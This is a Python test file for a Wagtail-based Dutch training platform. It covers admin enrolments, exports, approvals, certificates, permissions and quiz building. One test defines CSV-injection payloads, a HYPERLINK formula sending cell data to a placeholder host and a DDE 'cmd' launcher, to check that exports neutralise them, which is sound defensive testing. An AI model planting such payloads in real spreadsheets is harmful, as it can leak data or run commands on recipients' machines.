"""Academiebeheerders in the Wagtail admin: enrolments with progress, approving requests,
certificates, completions per organisation, exports; and editors building courses."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from wagtail.blocks import StreamBlockValidationError, StructBlockValidationError
from wagtail.models import Page
from wagtail.test.utils import WagtailPageTestCase
from wagtail.test.utils.form_data import nested_form_data, rich_text, streamfield

from academie.blocks.courses import SingleChoiceBlock
from academie.models import (
    Certificate,
    CourseIndexPage,
    CourseModulePage,
    CoursePage,
    Enrolment,
    LessonPage,
    QuizPage,
)
from academie.models.catalogue import prerequisites_loop_back
from academie.permissions import grant_course_manager_page_permissions
from hub.models import HomePage
from tests.academie.courses.factories import CourseIndexPageFactory
from tests.academie.courses.helpers import complete_course
from tests.academie.factories import make_user

pytestmark = pytest.mark.django_db


def download(response):
    return b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.fixture
def requested(make_course, user, enrol):
    course = make_course(requires_approval=True, title="Intake")
    return enrol(user, course, motivation="Ik wil het leren.")


def test_manager_sees_enrolments_with_progress(client, manager, course, enrolment):
    from academie import services

    services.complete_lesson(enrolment, course.lessons[0])
    client.force_login(manager)
    response = client.get("/admin/academie_enrolments/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Fatima Bakker" in html and "Gemeente Zwolle" in html
    assert ">33<" in html.replace(" ", "").replace("\n", "")
    assert "/admin/academie_enrolments/new/" not in html  # no generic add screen
    inspect = client.get(f"/admin/academie_enrolments/inspect/{enrolment.pk}/")
    assert inspect.status_code == 200
    assert "Gemeente Zwolle" in inspect.content.decode()
    assert client.get(f"/admin/academie_enrolments/edit/{enrolment.pk}/").status_code == 404


def test_enrolments_export_as_csv_and_xlsx(client, manager, course, enrolment):
    client.force_login(manager)
    response = client.get("/admin/academie_enrolments/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(download(response))))
    assert rows[0][:4] == ["Deelnemer", "E-mailadres", "Organisatie", "Cursus"]
    assert rows[1][:4] == [
        "Fatima Bakker",
        enrolment.user.email,
        "Gemeente Zwolle",
        course.page.title,
    ]
    assert rows[1][5] == "0"
    xlsx = client.get("/admin/academie_enrolments/?export=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")


HOSTILE_NAME = '=HYPERLINK("https://kwaadwillend.example/?d="&A1,"Klik")'
HOSTILE_ORGANISATION = "+cmd|' /C calc'!A0"


def xlsx_rows(response):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


def test_exports_neutralise_formulas_and_use_local_time(client, manager, make_course, user, enrol):
    """Text that a spreadsheet would run as a formula starts with an apostrophe in every
    academy export; times are Dutch local time, to the minute."""
    from datetime import UTC, date, datetime

    course = make_course(title="-Basiscursus")
    enrolment = enrol(
        user, course, participant_name=HOSTILE_NAME, organisation=HOSTILE_ORGANISATION
    )
    Enrolment.objects.filter(pk=enrolment.pk).update(
        created_at=datetime(2026, 7, 1, 10, 15, 42, 123456, tzinfo=UTC)  # 12.15 in summer
    )
    enrolment.refresh_from_db()
    complete_course(enrolment, course)
    Certificate.objects.update(holder_name="@SUM(1+1)", issued_on=date(2026, 7, 2))
    client.force_login(manager)

    rows = list(
        csv.reader(io.StringIO(download(client.get("/admin/academie_enrolments/?export=csv"))))
    )
    assert rows[1][0] == "'" + HOSTILE_NAME
    assert rows[1][2] == "'" + HOSTILE_ORGANISATION
    assert rows[1][3] == "'-Basiscursus"
    assert rows[1][5] == "100"  # numbers stay numbers
    assert rows[1][6] == "01-07-2026 12:15"
    xlsx = xlsx_rows(client.get("/admin/academie_enrolments/?export=xlsx"))
    assert xlsx[1][0] == "'" + HOSTILE_NAME
    assert xlsx[1][6] == datetime(2026, 7, 1, 12, 15)

    rows = list(
        csv.reader(io.StringIO(download(client.get("/admin/academie_certificates/?export=csv"))))
    )
    assert rows[1][1:3] == ["'@SUM(1+1)", "'-Basiscursus"]
    assert rows[1][4] == "02-07-2026"

    rows = list(
        csv.reader(io.StringIO(download(client.get("/admin/academie_completions/?export=csv"))))
    )
    assert rows[1] == ["'" + HOSTILE_ORGANISATION, "'-Basiscursus", "1", "1"]


def test_manager_approves_a_request(client, manager, requested, django_capture_on_commit_callbacks):
    client.force_login(manager)
    listing = client.get("/admin/academie_enrolments/?status=aangevraagd").content.decode()
    assert f"/admin/academie_enrolments/review/{requested.pk}/" in listing
    page = client.get(f"/admin/academie_enrolments/review/{requested.pk}/").content.decode()
    assert "Ik wil het leren." in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/admin/academie_enrolments/review/{requested.pk}/", {"action": "approve"}
        )
    assert response.status_code == 302
    requested.refresh_from_db()
    assert requested.status == Enrolment.Status.ACTIVE
    assert requested.decided_by == manager
    assert mail.outbox[-1].to == [requested.user.email]


def test_manager_refuses_a_request_with_a_reason(
    client, manager, requested, django_capture_on_commit_callbacks
):
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            f"/admin/academie_enrolments/review/{requested.pk}/",
            {"action": "refuse", "reason": "Alleen voor klachtbehandelaars."},
        )
    requested.refresh_from_db()
    assert requested.status == Enrolment.Status.REFUSED
    assert requested.refusal_reason == "Alleen voor klachtbehandelaars."
    assert "Alleen voor klachtbehandelaars." in mail.outbox[-1].body


def test_reviewing_twice_is_refused_with_a_message(client, manager, requested):
    client.force_login(manager)
    url = f"/admin/academie_enrolments/review/{requested.pk}/"
    client.post(url, {"action": "approve"})
    response = client.post(url, {"action": "refuse"}, follow=True)
    assert "al beoordeeld" in response.content.decode()
    requested.refresh_from_db()
    assert requested.status == Enrolment.Status.ACTIVE


def test_users_without_permission_cannot_review_or_list(client, requested):
    editor = make_user("redacteur@kennishub.example")
    editor.groups.add(Group.objects.get(name="Redacteur"))
    client.force_login(editor)
    assert client.get("/admin/academie_enrolments/").status_code in (302, 403)
    response = client.post(
        f"/admin/academie_enrolments/review/{requested.pk}/", {"action": "approve"}
    )
    assert response.status_code in (302, 403)
    requested.refresh_from_db()
    assert requested.status == Enrolment.Status.REQUESTED
    client.logout()
    assert client.get("/admin/academie_enrolments/")["Location"].startswith("/accounts/login/")


def test_completions_per_organisation_report_and_export(
    client, manager, make_course, user, other_user, enrol
):
    course = make_course(title="Basiscursus")
    complete_course(enrol(user, course), course)
    enrol(other_user, course, organisation="Gemeente Zwolle")
    third = make_user("derde@gemeente.example")
    enrol(third, course, organisation="ADV Overijssel")
    client.force_login(manager)
    response = client.get("/admin/academie_completions/")
    assert response.status_code == 200
    assert "Gemeente Zwolle" in response.content.decode()
    exported = download(client.get("/admin/academie_completions/?export=csv"))
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == ["Organisatie", "Cursus", "Ingeschreven", "Afgerond"]
    assert ["Gemeente Zwolle", "Basiscursus", "2", "1"] in rows
    assert ["ADV Overijssel", "Basiscursus", "1", "0"] in rows


def test_manager_revokes_a_certificate(client, manager, course, enrolment):
    complete_course(enrolment, course)
    certificate = Certificate.objects.get()
    client.force_login(manager)
    assert certificate.code in client.get("/admin/academie_certificates/").content.decode()
    inspect = client.get(f"/admin/academie_certificates/inspect/{certificate.pk}/")
    assert inspect.status_code == 200
    client.post(f"/admin/academie_certificates/revoke/{certificate.pk}/", {"reason": "Fraude"})
    certificate.refresh_from_db()
    assert certificate.revoked_at and certificate.revoked_reason == "Fraude"
    assert "Ingetrokken" in client.get(certificate.get_verification_path()).content.decode()


def test_manager_may_download_any_certificate_pdf(client, manager, course, enrolment):
    complete_course(enrolment, course)
    certificate = Certificate.objects.get()
    client.force_login(manager)
    assert client.get(certificate.get_download_path()).status_code == 200


def test_manager_group_gets_model_and_page_permissions(home, manager):
    group = Group.objects.get(name="Academiebeheerder")
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {
        "view_enrolment",
        "change_enrolment",
        "view_certificate",
        "change_certificate",
    } <= codenames
    index = CourseIndexPageFactory(parent=home)
    assert not index.permissions_for_user(manager).can_add_subpage()
    grant_course_manager_page_permissions(index)
    grant_course_manager_page_permissions(index)  # idempotent
    manager = type(manager).objects.get(pk=manager.pk)  # drop the cached permissions
    permissions = index.permissions_for_user(manager)
    assert permissions.can_add_subpage() and permissions.can_publish_subpage()


def test_prerequisites_may_not_loop(make_course):
    first, second, third = (make_course().page for _ in range(3))
    second.prerequisites.add(first)
    second.save()
    third.prerequisites.add(second)
    third.save()
    assert prerequisites_loop_back(first.pk, [third.pk])
    assert prerequisites_loop_back(first.pk, [first.pk])
    assert not prerequisites_loop_back(third.pk, [first.pk])


def test_single_choice_question_needs_exactly_one_right_answer():
    block = SingleChoiceBlock()
    value = block.to_python(
        {
            "question": "Vraag",
            "answers": [
                {"text": "A", "correct": True, "feedback": ""},
                {"text": "B", "correct": True, "feedback": ""},
            ],
            "explanation": "",
        }
    )
    with pytest.raises((StructBlockValidationError, StreamBlockValidationError)):
        block.clean(value)


def answers_data(*answers):
    data = {"count": len(answers)}
    for n, (text, correct) in enumerate(answers):
        value = {"text": text, "feedback": ""}
        if correct:
            value["correct"] = "on"
        data[str(n)] = {"value": value, "deleted": "", "order": str(n)}
    return data


class CourseAdminTests(WagtailPageTestCase):
    """Editors build a course in the page tree: index, course, module, lesson and quiz.

    See https://docs.wagtail.org/en/stable/advanced_topics/testing.html
    """

    @classmethod
    def setUpTestData(cls):
        cls.home = Page.objects.get(depth=2).specific
        cls.index = CourseIndexPageFactory(parent=cls.home)

    def setUp(self):
        self.login()

    def test_page_tree_rules(self):
        self.assertCanCreateAt(HomePage, CourseIndexPage)
        self.assertCanCreateAt(CourseIndexPage, CoursePage)
        self.assertCanCreateAt(CoursePage, CourseModulePage)
        self.assertCanCreateAt(CourseModulePage, LessonPage)
        self.assertCanCreateAt(CourseModulePage, QuizPage)
        self.assertCanNotCreateAt(CoursePage, LessonPage)
        self.assertCanNotCreateAt(HomePage, CoursePage)

    def test_editor_creates_a_course_module_and_quiz(self):
        self.assertCanCreate(
            self.index,
            CoursePage,
            nested_form_data(
                {
                    "title": "Nieuwe cursus",
                    "slug": "nieuwe-cursus",
                    "intro": "Een nieuwe cursus.",
                    "learning_goals": rich_text("<ul><li>Iets leren</li></ul>"),
                    "description": streamfield([]),
                    "accreditation": rich_text(""),
                    "trainers": {
                        "TOTAL_FORMS": 0,
                        "INITIAL_FORMS": 0,
                        "MIN_NUM_FORMS": 0,
                        "MAX_NUM_FORMS": 1000,
                    },
                    "course_format": "e-learning",
                    "level": "basis",
                    "duration_hours": "3",
                }
            ),
        )
        course = CoursePage.objects.get(slug="nieuwe-cursus")
        assert course.duration_band == "2-tot-4-uur"
        self.assertCanCreate(
            course, CourseModulePage, nested_form_data({"title": "Module 1", "slug": "module-1"})
        )
        module = CourseModulePage.objects.get(slug="module-1")
        self.assertCanCreate(
            module,
            QuizPage,
            nested_form_data(
                {
                    "title": "Toets",
                    "slug": "toets",
                    "pass_mark": "70",
                    "max_attempts": "3",
                    "retry_wait_minutes": "60",
                    "questions": streamfield(
                        [
                            (
                                "single_choice",
                                {
                                    "question": "Wat is discriminatie?",
                                    "answers": answers_data(
                                        ("Ongelijke behandeling zonder goede reden", True),
                                        ("Een mening", False),
                                    ),
                                    "explanation": rich_text(""),
                                },
                            )
                        ]
                    ),
                }
            ),
        )
        quiz = QuizPage.objects.get(slug="toets")
        assert (quiz.max_attempts, quiz.retry_wait_minutes) == (3, 60)
        [question] = quiz.get_questions()
        assert question.correct_ids == {question.answers[0].id}
